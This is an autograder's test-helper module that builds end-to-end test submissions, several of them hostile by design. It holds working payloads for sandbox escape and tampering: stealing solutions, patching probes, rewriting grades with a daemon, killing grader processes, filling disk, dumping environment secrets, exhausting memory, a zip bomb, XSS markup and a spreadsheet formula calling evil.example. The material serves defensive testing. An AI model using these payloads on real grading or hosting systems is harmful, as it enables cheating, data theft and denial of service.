"""Whole submissions for the grader's end-to-end tests, and what the grader must say of them.

- The example class's builders (release, correct, broken and hostile cases) come from the
  product (examples.build); `rounds(nb)` groups the corpus mutations (tests/corpus) so
  that one submission carries several, one per answer cell, in cells that do not use each
  other's names.
- `attacks(...)`: every attack class of the jail's threat model (import the reference,
  read solutions/ or another student, replace the probe, edit the grader or the venv, forge
  state, leave a daemon, kill the grader, crash matching, token soup, many slow cells, fill
  the disk, read secrets, leak hidden tests, active HTML, formula CSV, symlinks) in a case
  that expects the points its own code earns; the attacks that write files share one case,
  and so do those aimed at the pages and the spreadsheets.
- `grade()` runs the command line as an instructor does; `check()` compares OUT with the
  expectations; `Fingerprint` hashes the files a run must not touch and `TempListing` lists
  /tmp itself; `survivors()` lists processes a run left behind.
"""

from __future__ import annotations

import ast
import csv
import hashlib
import html
import os
import re
import subprocess
import sys
from collections import Counter
from pathlib import Path
from typing import Any

import nbformat
import psutil

from autograder.model.course import load_masters
from autograder.model.paths import SOLUTIONS as SOLUTIONS_DIR  # noqa: F401 - for the tests
from autograder.publish.outdir import feedback_path
from autograder.worker.rebuild import defined_names
from examples.build import (  # noqa: F401 - re-exported for the tests
    ENDLESS,
    MEMORY_HOG,
    NOISE,
    PATCHES,
    PRINT_100MB,
    SPAWN,
    Case,
    Expect,
    appended,
    broken_cases,
    correct,
    course_notebooks,
    dump,
    full_answers,
    hostile_cases,
    master,
    release,
    solutions,
    strip_metadata,
    with_answers,
)
from tests import corpus

# ---- the mutation corpus, several mutations per submission ------------------------------------


def _uses(src: str, names: set[str]) -> bool:
    try:
        tree = ast.parse(src)
    except SyntaxError:
        return True
    return any(isinstance(n, ast.Name) and n.id in names for n in ast.walk(tree))


def group(notebook: str, items: list) -> list[list]:
    """`items` (mutations or alternatives of one notebook) in as few submissions as possible:
    at most one per answer cell, never in two cells where one uses names the other defines."""
    sols = solutions(notebook)
    pending = list(items)
    out: list[list] = []
    while pending:
        chosen: list = []
        for item in list(pending):
            if any(c.grade_id == item.grade_id for c in chosen):
                continue
            mine = defined_names(sols[item.grade_id])
            clash = any(
                _uses(sols[c.grade_id], mine)
                or _uses(sols[item.grade_id], defined_names(sols[c.grade_id]))
                for c in chosen
            )
            if not clash:
                chosen.append(item)
                pending.remove(item)
        out.append(chosen)
    return out


def rounds(notebook: str) -> list[list[corpus.Mutation]]:
    """Every corpus mutation of `notebook`, grouped."""
    return group(notebook, [m for m in corpus.mutations() if m.notebook == notebook])


def alternative_rounds(notebook: str) -> list[list[corpus.Alternative]]:
    """Every corpus alternative of `notebook`, grouped."""
    return group(notebook, [a for a in corpus.alternatives() if a.notebook == notebook])


def _fits(notebook: str, item: Any, batch: list) -> bool:
    return group(notebook, [*batch, item]) == [[*batch, item]]


# What one more graded run of a notebook costs, relative to notebook 01 (06 and 07 train a model).
RUN_COST = {"02": 1.5, "03": 1.5, "05": 1.5, "06": 3, "07": 3}


def mutation_sample() -> list[corpus.Mutation]:
    """A few mutations that between them make every catalog mistake and touch every answer
    cell that has one, chosen so that they pack into few notebook runs: the sample the grader
    is run on end to end (every mutation is judged in-process by test_checks_corpus.py)."""
    everything = corpus.mutations()
    chosen: list[corpus.Mutation] = []
    batches: dict[str, list[list[corpus.Mutation]]] = {}

    def place(m: corpus.Mutation) -> None:
        chosen.append(m)
        for batch in batches.setdefault(m.notebook, []):
            if _fits(m.notebook, m, batch):
                batch.append(m)
                return
        batches[m.notebook].append([m])

    def free_slot(m: corpus.Mutation) -> bool:
        return any(_fits(m.notebook, m, b) for b in batches.get(m.notebook, []))

    cells = dict.fromkeys((m.notebook, m.grade_id) for m in everything)
    # the mistakes that few cells can make are placed first, while those cells have room
    spread = Counter(dict.fromkeys((m.mistake, m.notebook, m.grade_id) for m in everything))
    reach = Counter(mistake for mistake, _, _ in spread)
    for notebook, gid in cells:  # one per answer cell, a mistake not yet made where possible
        mine = [m for m in everything if (m.notebook, m.grade_id) == (notebook, gid)]
        made = {c.mistake for c in chosen}
        fresh = [m for m in mine if m.mistake not in made]
        place(min(fresh, key=lambda m: reach[m.mistake]) if fresh else mine[0])
    for mistake in sorted(dict.fromkeys(m.mistake for m in everything), key=reach.__getitem__):
        if any(c.mistake == mistake for c in chosen):
            continue
        makers = [m for m in everything if m.mistake == mistake]
        costs = [RUN_COST.get(m.notebook[:2], 1) for m in makers]  # of one more run
        place(next((m for m in makers if free_slot(m)), makers[costs.index(min(costs))]))
    return chosen


def sample_rounds(notebook: str) -> list[list[corpus.Mutation]]:
    """The end-to-end sample's mutations of `notebook`, grouped."""
    return group(notebook, [m for m in mutation_sample() if m.notebook == notebook])


def alternative_sample(notebook: str) -> list[corpus.Alternative]:
    """One alternative per answer cell of `notebook`: one submission, full marks expected. The
    one that reads names the notebook's cells define above it, where the corpus has one
    (tests/corpus/context.py: it also proves that such an answer keeps its points)."""
    from tests.corpus.context import LABEL

    mine = [a for a in corpus.alternatives() if a.notebook == notebook]
    mine.sort(key=lambda a: a.label != LABEL)  # stable: otherwise the corpus's order
    return list({a.grade_id: a for a in reversed(mine)}.values())[::-1]


def with_alternatives(
    notebook: str, alternatives: list[corpus.Alternative]
) -> nbformat.NotebookNode:
    answers = full_answers(notebook)
    for a in alternatives:
        answers[a.grade_id] = a.source
    return with_answers(notebook, answers)


def mutated(
    notebook: str,
    mutations: list[corpus.Mutation],
    alternatives: list[corpus.Alternative] = (),
) -> nbformat.NotebookNode:
    """The solutions with `mutations` applied and `alternatives` in their cells."""
    answers = full_answers(notebook)
    for m in mutations:
        answers[m.grade_id] = corpus.apply(answers[m.grade_id], m)
    for a in alternatives:
        answers[a.grade_id] = a.source
    return with_answers(notebook, answers)


def alternative_groups(
    notebook: str, alternatives: list[corpus.Alternative]
) -> list[list[corpus.Alternative]]:
    """Alternatives in as few submissions as possible, one per answer cell. All are correct,
    so one may use what another defines, unless that other leaves out a name its solution
    defines (`group`'s rule is for mutations, whose mistakes would spread)."""
    sols = solutions(notebook)

    def missing(a: corpus.Alternative) -> set[str]:
        return defined_names(sols[a.grade_id]) - defined_names(a.source)

    rounds: list[list[corpus.Alternative]] = []
    for a in alternatives:
        for batch in rounds:
            if all(
                b.grade_id != a.grade_id
                and not _uses(a.source, missing(b))
                and not _uses(b.source, missing(a))
                for b in batch
            ):
                batch.append(a)
                break
        else:
            rounds.append([a])
    return rounds


def alternatives_beside(
    notebook: str, rounds: list[list[corpus.Mutation]], alternatives: list[corpus.Alternative]
) -> tuple[list[list[corpus.Alternative]], list[corpus.Alternative]]:
    """Each alternative placed beside a round of mutations where it fits (its cell neither
    mutated nor using a mutated cell's names, no clash with the round's other cells): the
    alternatives per round, and those that fit no round (to be graded on their own)."""
    placed: list[list[corpus.Alternative]] = [[] for _ in rounds]
    left = []
    for a in alternatives:
        for k, batch in enumerate(rounds):
            mutated_cells = {m.grade_id for m in batch}
            touched = mutated_cells | dependents(notebook, mutated_cells)
            uses = {a.grade_id, *context_uses(notebook, a)}
            if not uses & touched and _fits(notebook, a, [*batch, *placed[k]]):
                placed[k].append(a)
                break
        else:
            left.append(a)
    return placed, left


def context_uses(notebook: str, alternative: corpus.Alternative) -> frozenset[str]:
    """Answer cells whose names the master cells run before `alternative` read (a cell of the
    notebook that calls an earlier answer's function: a mutation there would change it)."""
    from autograder.worker.context import analyse

    master = load_masters(notebooks=(notebook,))[notebook]
    sols = solutions(notebook)
    sols[alternative.grade_id] = alternative.source
    order = master.code_answers[: master.code_answers.index(alternative.grade_id) + 1]
    plan = master.context.plan([(g, sols[g]) for g in order], alternative.grade_id)
    reads = set().union(*(analyse(src).reads for kind, _, src in plan.steps if kind == "context"))
    return frozenset(g for g in order if defined_names(sols[g]) & reads)


def dependents(notebook: str, grade_ids: set[str]) -> frozenset[str]:
    """Answer cells whose solution uses names defined by `grade_ids` (directly or not)."""
    sols = solutions(notebook)
    found: set[str] = set()
    frontier = set(grade_ids)
    while frontier:
        names = set().union(*(defined_names(sols[g]) for g in frontier))
        frontier = {
            g for g, src in sols.items() if g not in found | grade_ids and _uses(src, names)
        }
        found |= frontier
    return frozenset(found)


def expect_mutations(mutations: list[corpus.Mutation]) -> Expect:
    lost = frozenset(m.grade_id for m in mutations)
    notebook = mutations[0].notebook if mutations else ""
    return Expect(
        "ok",
        lost,
        tuple((m.grade_id, m.mistake) for m in mutations),
        dependents(notebook, set(lost)) if mutations else frozenset(),
    )


# ---- grading a class and reading what the grader wrote ------------------------------------------


def write_class(folder: Path, cases: list[Case]) -> None:
    for case in cases:
        for name, content in case.files.items():
            path = folder / case.student / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content)


def grade_command(submissions: Path, out: Path, *options: str) -> list[str]:
    return [
        sys.executable,
        "-m",
        "autograder",
        "grade",
        str(submissions),
        "--out",
        str(out),
        *options,
    ]


def grade(
    submissions: Path, out: Path, *options: str, env: dict | None = None, timeout: float = 1800
) -> subprocess.CompletedProcess:
    """`python -m autograder grade` in a subprocess, as an instructor runs it."""
    cmd = grade_command(submissions, out, "--quiet", *options)
    return subprocess.run(cmd, capture_output=True, text=True, timeout=timeout, env=env)


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, newline="") as f:
        return list(csv.DictReader(f))


def unquote(cell: str) -> str:
    """A CSV cell as it was before the grader quoted a would-be formula."""
    return cell[1:] if cell[:1] == "'" and cell[1:2] in ("=", "+", "-", "@", "\t", "\r") else cell


def page_text(path: Path) -> str:
    """The text a reader sees on a page (tags dropped, entities decoded)."""
    text = re.sub(r"<style.*?</style>|<script.*?</script>", " ", path.read_text(), flags=re.S)
    return html.unescape(re.sub(r"<[^>]+>", "", text))


def hidden_test_lines() -> set[str]:
    """Every non-trivial line of every hidden test block of the masters."""
    lines = set()
    for notebook in course_notebooks():
        for cell in master(notebook).cells:
            src = "".join(cell.source)
            for block in re.findall(r"BEGIN HIDDEN TESTS(.*?)### END HIDDEN TESTS", src, re.S):
                lines |= {ln.strip() for ln in block.splitlines() if len(ln.strip()) > 12}
    return lines


def check(out: Path, cases: list[Case]) -> list[str]:
    """Every way the grader's outputs in `out` disagree with the cases' expectations."""
    from autograder.checks.catalog import describe

    grades = {(unquote(r["student"]), r["notebook"]): r for r in read_csv(out / "grades.csv")}
    cells = {
        (r["student"], r["notebook"], r["grade_id"]): r
        for r in read_csv(out / "cells.csv")
        if r["kind"] == "auto"  # written answers wait for the instructor
    }
    named = {
        (r["student"], r["notebook"], r["grade_id"], r["mistake"])
        for r in read_csv(out / "diagnoses.csv")
    }
    problems = []
    for case in cases:
        for notebook, expect in case.expect.items():
            key = (case.student, notebook)
            row = grades.get(key)
            if row is None:
                problems.append(f"{key}: no row in grades.csv")
                continue
            if row["status"] not in expect.status.split(" or "):
                problems.append(f"{key}: status {row['status']}, expected {expect.status}")
            for (student, nb, gid), c in cells.items():
                if (student, nb) != key:
                    continue
                lost = float(c["score"]) < float(c["max_score"])
                should = expect.lost is None or gid in expect.lost
                if gid in expect.free and not should:
                    continue
                if lost != should:
                    problems.append(
                        f"{key} {gid}: {c['score']}/{c['max_score']}, expected "
                        f"{'to lose points' if should else 'full marks'}"
                    )
            text = page_text(feedback_path(out, case.student, notebook))
            for gid, mistake in expect.named:
                if (case.student, notebook, gid, mistake) not in named:
                    problems.append(f"{key} {gid}: {mistake} not in diagnoses.csv")
                if describe(mistake) not in text:
                    problems.append(f"{key} {gid}: the words for {mistake} are not in the feedback")
    return problems


# ---- what a run must leave alone ----------------------------------------------------------


class Fingerprint:
    """Digests of every file below some folders (OUT excluded), to compare before and after."""

    SKIP = ("__pycache__", ".pytest_cache", ".ruff_cache", ".hypothesis", ".git")

    def __init__(self, roots: list[Path], exclude: list[Path], contents: bool = True) -> None:
        self.roots = [r.resolve() for r in roots]
        self.exclude = [e.resolve() for e in exclude]
        self.contents = contents  # False: size, mtime and inode only (a venv is large)
        self.files = self._scan()

    def _scan(self) -> dict[str, str]:
        found = {}
        for root in self.roots:
            for folder, dirs, files in os.walk(root):
                here = Path(folder)
                dirs[:] = [
                    d for d in dirs
                    if d not in self.SKIP and not any((here / d) == e for e in self.exclude)
                ]  # fmt: skip
                for name in files:
                    path = here / name
                    try:
                        found[str(path)] = _digest(path) if self.contents else _stat(path)
                    except OSError:
                        found[str(path)] = "unreadable"
        return found

    def changes(self) -> list[str]:
        now = self._scan()
        changed = [p for p in now if self.files.get(p) != now[p]]
        gone = [p for p in self.files if p not in now]
        return sorted(changed + gone)


class TempListing:
    """The entries of a temporary folder itself, to compare before and after a run: entries
    added or removed (a file or folder replaced counts: its inode changed), and every file
    below a folder the run added. Files that were there before may grow (another program's
    log), and the insides of folders that were there before are not looked at."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.entries = self._scan()

    def _scan(self) -> dict[str, str]:
        found = {}
        for entry in os.scandir(self.folder):
            try:
                info = entry.stat(follow_symlinks=False)
            except OSError:
                continue
            if entry.is_dir(follow_symlinks=False):
                found[entry.path] = f"folder:{info.st_ino}"
            else:
                found[entry.path] = f"file:{info.st_ino}"
        return found

    def changes(self) -> list[str]:
        now = self._scan()
        changed = sorted(
            p for p in now.keys() | self.entries.keys() if now.get(p) != self.entries.get(p)
        )
        added = [p for p in changed if p not in self.entries and now[p].startswith("folder:")]
        for folder in added:
            changed += [os.path.join(d, f) for d, _, files in os.walk(folder) for f in files]
        return changed


def _stat(path: Path) -> str:
    info = path.lstat()
    return f"{info.st_size}:{info.st_mtime_ns}:{info.st_ino}:{info.st_mode}"


def _digest(path: Path) -> str:
    if path.is_symlink():
        return "link:" + os.readlink(path)
    h = hashlib.sha256()
    with open(path, "rb") as f:
        while chunk := f.read(1 << 20):
            h.update(chunk)
    return h.hexdigest()


def survivors(since: float, marker: str) -> list[str]:
    """Processes started after `since` (epoch s) whose command line or cwd holds `marker`."""
    found = []
    for proc in psutil.process_iter(["pid", "create_time", "cmdline", "cwd", "environ"]):
        info = proc.info
        if (info.get("create_time") or 0) < since or proc.pid == os.getpid():
            continue
        text = " ".join(info.get("cmdline") or []) + " " + (info.get("cwd") or "")
        text += " ".join(f"{k}={v}" for k, v in (info.get("environ") or {}).items())
        if marker in text:
            found.append(f"{proc.pid}: {text[:200]}")
    return found


# ---- one attack per class of the threat model ----------------------------------------------

SECRET = "hunter2-grader-secret-0f6c"  # put in the grader's environment by the tests
FORMULA_STUDENT = '=HYPERLINK("evil.example","x")'  # a folder name a spreadsheet would run

STEAL = """
import json as _json
_nb = _json.load(open({path!r}))
for _c in _nb["cells"]:
    _meta = _c.get("metadata", {{}}).get("nbgrader", {{}})
    if _meta.get("solution") and _c.get("cell_type") == "code":
        _src = "".join(_c["source"]).replace("### BEGIN SOLUTION", "")
        exec(_src.replace("### END SOLUTION", ""))
"""
IMPORT_REFERENCE = """
import importlib as _importlib
_spec = _importlib.import_module("autograder.checks").spec_for({gid!r})
{name} = lambda *args: _spec.reference(*args)
"""
REPLACE_PROBE = """
import sys as _sys


def _patch_probes():
    from autograder.checks import spec_for  # the reference, where it can be reached

    spec = spec_for({gid!r})
    for name, mod in list(_sys.modules.items()):
        for attr in dir(mod):
            original = getattr(mod, attr, None)
            if attr.startswith("probe") and callable(original):
                def fake(ns, cases, _original=original):
                    return _original({{**ns, {name!r}: spec.reference}}, cases)
                setattr(mod, attr, fake)
    type(spec).probe = lambda self, ns, cases: self.__class__.__base__.probe(
        self, {{**ns, {name!r}: spec.reference}}, cases)


try:
    _patch_probes()
except Exception:
    pass
"""
WRITE_FILES = """
for _path, _text in {targets!r}:
    try:
        with open(_path, "a") as _f:
            _f.write(_text)
    except OSError:
        pass
"""
DAEMON = """
import os as _os, time as _time
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        for _ in range(600):
            try:
                with open({target!r}, "w") as _f:
                    _f.write("student,notebook,score,max_score,status\\nmallory,all,100,1,ok\\n")
            except OSError:
                pass
            _time.sleep(0.2)
        _os._exit(0)
    _os._exit(0)
"""
KILL_GRADER = """
import os as _os, signal as _signal
for _pid in _os.listdir("/proc"):
    if _pid.isdigit() and int(_pid) != _os.getpid():
        try:
            _cmd = open(f"/proc/{_pid}/cmdline", "rb").read().replace(b"\\0", b" ")
        except OSError:
            continue
        if b"autograder grade" in _cmd or b"distributed" in _cmd or b"spawn_main" in _cmd:
            try:
                _os.kill(int(_pid), _signal.SIGKILL)
            except OSError:
                pass
"""
FILL_DISK = """
import os as _os, tempfile as _tempfile
for _where in (_tempfile.gettempdir(), _os.path.expanduser("~"), _os.getcwd()):
    try:
        with open(_os.path.join(_where, "filler.bin"), "wb") as _f:
            for _ in range(200):
                _f.write(b"\\0" * 2**20)
    except OSError:
        pass
"""
SECRETS = """
import os as _os
print("ENVIRONMENT", dict(_os.environ))
"""
SPY = """
import inspect as _inspect
_real = {name}


def {name}(*args):
    for _frame in _inspect.stack():
        try:
            print("CALLER", _inspect.getsource(_frame.frame))
        except (OSError, TypeError):
            pass
    return _real(*args)
"""
ACTIVE_HTML = """
from IPython.display import HTML, Markdown, Javascript, display
display(HTML('<script>document.title="pwned"</script><img src=x onerror="alert(1)">'
             '<iframe src="https://example.org"></iframe><a href="javascript:alert(2)">x</a>'))
display(Markdown('[click](javascript:alert(3))'))
display(Javascript('alert(4)'))
"""
# In a probe (MPLBACKEND=Agg there): three children forked, each process then holding 600 MiB.
_FORK_AND_HOLD = """    _child = False
    for _ in range(3):
        if _os.fork() == 0:
            _child = True
            break
    _mine = b"x" * (600 * 2**20)
    _time.sleep(5)
    if _child:
        _os._exit(0)
"""
# In the kernel: 88 memfd files of 64 MiB held open (5.5 GiB that is in no process's RSS); in
# a probe, the forked children above.
MEMORY_OUTSIDE = (
    """
import os as _os, time as _time
if _os.environ.get("MPLBACKEND") != "Agg":
    _held = []
    for _i in range(88):
        _fd = _os.memfd_create(f"held{_i}")
        for _ in range(64):
            _os.write(_fd, b"x" * 2**20)
        _held.append(_fd)
else:
"""
    + _FORK_AND_HOLD
)
# Only in a probe: the forked children; the kernel runs the notebook as usual.
PROBE_MEMORY = (
    """
import os as _os, time as _time
if _os.environ.get("MPLBACKEND") == "Agg":
"""
    + _FORK_AND_HOLD
)
# In a probe: observed.npz replaced by a deflated 256 MiB array (a few hundred KB on disk)
# that observed.json refers to six times.
BOMB = """
import os as _os
if _os.environ.get("MPLBACKEND") == "Agg":
    import json as _json, zipfile as _zipfile
    import numpy as _np
    _replace = _os.replace
    def _bomb(src, dst):
        _replace(src, dst)
        if str(dst).endswith("observed.json"):
            _npz = _os.path.join(_os.path.dirname(str(dst)), "observed.npz")
            with _zipfile.ZipFile(_npz, "w", _zipfile.ZIP_DEFLATED) as _zf:
                with _zf.open("a0.npy", "w", force_zip64=True) as _f:
                    _header = {"descr": "<f8", "fortran_order": False, "shape": (2**25,)}
                    _np.lib.format.write_array_header_1_0(_f, _header)
                    for _ in range(256):
                        _f.write(bytes(2**20))
            with open(dst, "w") as _out:
                _json.dump({"bomb": [{"\\u0000npz": "a0"}] * 6}, _out)
    _os.replace = _bomb
"""
# Shown in formgrader: an image whose metadata would become an event handler there (the
# template writes width unquoted), file names in the metadata, and an SVG that runs a script.
FORMGRADER = """
import os as _os
if _os.environ.get("MPLBACKEND") != "Agg":
    from IPython.display import SVG as _SVG, display as _display, publish_display_data
    publish_display_data(
        {"image/png": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAE"
                      "hQGAhKmMIQAAAABJRU5ErkJggg==", "text/plain": "an image"},
        metadata={"image/png": {"width": "1 onerror=alert(document.cookie) data-x=1"},
                  "filenames": {"image/png": "/etc/passwd"}})
    _svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(5)"><circle r="4"/></svg>'
    _display(_SVG(_svg))
"""


def _answers_with(notebook: str, changes: dict[str, str]) -> bytes:
    answers = full_answers(notebook)
    answers.update(changes)
    return dump(with_answers(notebook, answers))


def _tail(notebook: str, gid: str, code: str) -> bytes:
    return dump(appended(notebook, gid, code))


def attacks(notebook: str, paths: dict[str, Path]) -> list[Case]:
    """One case per attack class; `paths`: project, venv, out, klass (the submissions)."""
    ids = list(solutions(notebook))
    first, last = ids[0], ids[-1]
    name = {gid: sorted(defined_names(src))[0] for gid, src in solutions(notebook).items()}
    all_lost = Expect("ok", None)
    steal = STEAL.format(path=str(paths["project"] / "solutions" / notebook))
    other = STEAL.format(path=str(paths["klass"] / "bystander" / notebook))
    state = paths["out"] / ".state" / "bystander" / f"{notebook}.json"
    forged = '{"grade": {"student": "bystander", "status": "ok"}, "mac": "0"}'
    csv_path = str(paths["out"] / "grades.csv")
    grader_file = paths["project"] / "autograder" / "model" / "grades.py"
    pth = paths["site"] / "zz_attack.pth"
    files = {
        "atk_import_reference": _answers_with(
            notebook, {g: IMPORT_REFERENCE.format(gid=g, name=name[g]) for g in ids}
        ),
        "atk_read_solutions": _answers_with(notebook, {g: steal for g in ids}),
        "atk_read_student": _answers_with(notebook, {g: other for g in ids}),
        "atk_replace_probe": _answers_with(
            notebook,
            {
                first: f"def {name[first]}(*args):\n    return None\n"
                + REPLACE_PROBE.format(gid=first, name=name[first])
            },
        ),
        "atk_write_files": _tail(  # what it writes would change the grader or other grades
            notebook,
            first,
            WRITE_FILES.format(
                targets=[
                    (str(grader_file), "\nSTATUSES = ()\n"),
                    (str(pth), "import os\n"),
                    (str(state), forged),
                ]
            )
            + FILL_DISK,
        ),
        "atk_daemon": _tail(notebook, first, DAEMON.format(target=csv_path)),
        "atk_kill_grader": _tail(notebook, last, KILL_GRADER + FORMGRADER),
        "atk_memory": _tail(notebook, last, MEMORY_OUTSIDE),
        "atk_probe_memory": _tail(notebook, last, PROBE_MEMORY),
        "atk_bomb": _tail(notebook, last, BOMB),
        # what it shows would reach pages and spreadsheets: its id is a formula, and it prints
        # the environment, the code that calls it and active HTML
        FORMULA_STUDENT: _tail(
            notebook, first, SECRETS + SPY.format(name=name[first]) + ACTIVE_HTML
        ),
    }
    about = {
        "atk_import_reference": "answers that call the grader's reference",
        "atk_read_solutions": "answers read from solutions/ on disk",
        "atk_read_student": "answers read from another student's submission",
        "atk_replace_probe": "a wrong answer that replaces the probe with the reference",
        "atk_write_files": (
            "correct answers that also append to the grader's code, drop a .pth file into the "
            "venv, forge another student's resume state and write 200 MB to /tmp, home and the "
            "working folder"
        ),
        "atk_daemon": "a double-forked daemon that rewrites grades.csv after the run",
        "atk_kill_grader": (
            "SIGKILL to every grader process it can see, and an image whose metadata would run "
            "a script in formgrader, beside an SVG that would"
        ),
        "atk_memory": (
            "5.5 GiB held in memfd files by the kernel, and a probe that forks three children "
            "holding 600 MiB each"
        ),
        "atk_probe_memory": "only in a probe: three forked children holding 600 MiB each",
        "atk_bomb": "a probe's results replaced by a deflated 256 MiB array referred to 6 times",
        FORMULA_STUDENT: (
            "a student id that is a formula, with correct answers that print the environment, "
            "the source of whatever calls them, and script, onerror, iframe and javascript: "
            "links"
        ),
    }
    expect = {
        "atk_import_reference": all_lost,
        "atk_read_solutions": all_lost,
        "atk_read_student": all_lost,
        "atk_replace_probe": Expect("ok", frozenset({first})),
        "atk_memory": Expect("error" if _cgroups() else "ok", frozenset({last})),
        "atk_probe_memory": Expect("error" if _cgroups() else "ok", frozenset({last})),
        "atk_bomb": Expect("ok", frozenset({last})),
    }
    cases = [
        Case(s, about[s], {notebook: f},
             {notebook: expect.get(s, Expect("ok"))})
        for s, f in files.items()
    ]  # fmt: skip
    return cases + _bounds(notebook, ids) + _matching(notebook)


def _cgroups() -> bool:
    """Whether this machine gives jails a cgroup: the kernel then stops a jail holding more
    than its bound in memfd files (without one, memfd_create is refused in the jail)."""
    from autograder.jail import cgroup

    return cgroup.hierarchy() is not None


def soup_points(out: Path, notebook: str) -> tuple[str, float, float]:
    """atk_token_soup's status, the points it lost, and the points of the answer cell its
    soup follows."""
    key = ("atk_token_soup", notebook)
    grades = read_csv(out / "grades.csv")
    status = next(r["status"] for r in grades if (r["student"], r["notebook"]) == key)
    cells = {
        r["grade_id"]: r
        for r in read_csv(out / "cells.csv")
        if (r["student"], r["notebook"]) == key and r["kind"] == "auto"
    }
    lost = sum(float(c["max_score"]) - float(c["score"]) for c in cells.values())
    return status, lost, float(cells[next(iter(solutions(notebook)))]["max_score"])


def _bounds(notebook: str, ids: list[str]) -> list[Case]:
    soup = "_soup = [" + "1, " * 128_000 + "]\n"  # 384 KB of tokens
    return [
        # Full marks, unless compiling 384 KB takes this machine longer than the cell timeout:
        # then status timeout and the soup's own cell loses its points (`soup_points`).
        Case("atk_token_soup", "a correct answer followed by 384 KB of tokens",
             {notebook: _tail(notebook, ids[0], soup)},
             {notebook: Expect("ok or timeout", frozenset(), free=frozenset({ids[0]}))}),
        Case("atk_slow_cells", "every answer cell ends in an endless loop",
             {notebook: _answers_with(notebook, {
                 g: full_answers(notebook)[g] + "\n" + ENDLESS for g in ids})},
             {notebook: Expect("timeout", None)}),
    ]  # fmt: skip


def _matching(notebook: str) -> list[Case]:
    crash = nbformat.v4.new_notebook()
    crash.cells = [nbformat.v4.new_code_cell("x = " + "1+" * 5000 + "1")]
    nested = b"[" * 100_000 + b"]" * 100_000
    named = f"{Path(notebook).stem} (final).ipynb"  # matched by its name, unparseable
    return [
        Case("atk_crash_matching", "a correct notebook and two extra files that crash matching",
             {notebook: dump(correct(notebook)), "scratch.ipynb": dump(crash),
              "deep.ipynb": nested}, {notebook: Expect("ok")}),
        Case("atk_crash_named", "a file named like the notebook whose parsing crashes",
             {named: nested}, {notebook: Expect("invalid", None)}),
    ]  # fmt: skip


def link_cases(notebook: str, project: Path) -> list[tuple[str, Path]]:
    """(student, link target) for submissions that are symbolic links."""
    return [
        ("link_solutions", project / "solutions" / notebook),
        ("link_student", Path("..") / "bystander" / notebook),
    ]
